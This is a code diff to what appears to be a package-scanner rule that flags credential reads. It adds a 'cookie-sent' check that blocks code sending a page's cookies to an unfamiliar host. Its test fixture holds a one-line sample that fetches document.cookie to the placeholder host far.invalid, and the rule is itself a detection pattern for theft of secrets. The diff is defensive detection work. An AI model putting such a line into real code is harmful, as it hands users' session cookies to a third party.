@@ -35,6 +35,10 @@ export const credentialsRead: Rule = defineRule({
   needs: ['behaviors', 'files'],
   kinds: {
     sent: { level: 'block', about: 'They are sent over the network when the package is loaded or installed.' },
+    'cookie-sent': {
+      level: 'block',
+      about: "A function sends all of a page's cookies to a host that is new to the package.",
+    },
     'when-installed': { level: 'block', about: 'An installation script reads them.' },
     'when-called': {
       level: 'notice',
@@ -48,6 +52,19 @@ export const credentialsRead: Rule = defineRule({
     },
   },
   flags: [
+    {
+      title: "all of a page's cookies, for a host that the package did not know",
+      before: { 'index.js': '' },
+      after: { 'index.js': `exports.open = () => fetch('https://far.invalid/?c=' + document.cookie);\n` },
+      expect: [
+        {
+          kind: 'cookie-sent',
+          message: 'fetch sends document.cookie to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'open()'],
+        },
+      ],
+    },
     {
       title: "npm's file read at load, under a name put together",
       before: { 'index.js': '' },
@@ -256,7 +273,7 @@ exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: proces
   },
 });
 
-type Kind = 'sent' | 'when-installed' | 'when-called' | 'own-service';
+type Kind = 'sent' | 'cookie-sent' | 'when-installed' | 'when-called' | 'own-service';
 
 /** What makes one look twice at a file that reads keys. */
 function isTelling({ kind, detail, origins, carries = [] }: Behavior): boolean {
@@ -304,7 +321,13 @@ function describeSent(behavior: Behavior, owner: Owner): Evidence<Kind>[] {
   const isOwn =
     host !== undefined &&
     (names.every((name) => isNamedAfter(host, name)) || (isSession && holdsAddress(owner.before, host)));
-  return [evidenceOf(behavior, message, isOwn ? 'own-service' : undefined)];
+  // All that a page knows of its user, for a host that it did not know: no library needs that.
+  const isTheft = names.every((name) => name === 'document.cookie') && host !== undefined && !knowsHost(owner, host);
+  return [evidenceOf(behavior, message, isOwn ? 'own-service' : isTheft ? 'cookie-sent' : undefined)];
+}
+
+function knowsHost({ name, before }: Owner, host: string): boolean {
+  return isHostOf(host, name) || holdsAddress(before, host);
 }
 
 function hostOf({ detail }: Behavior): string | undefined {
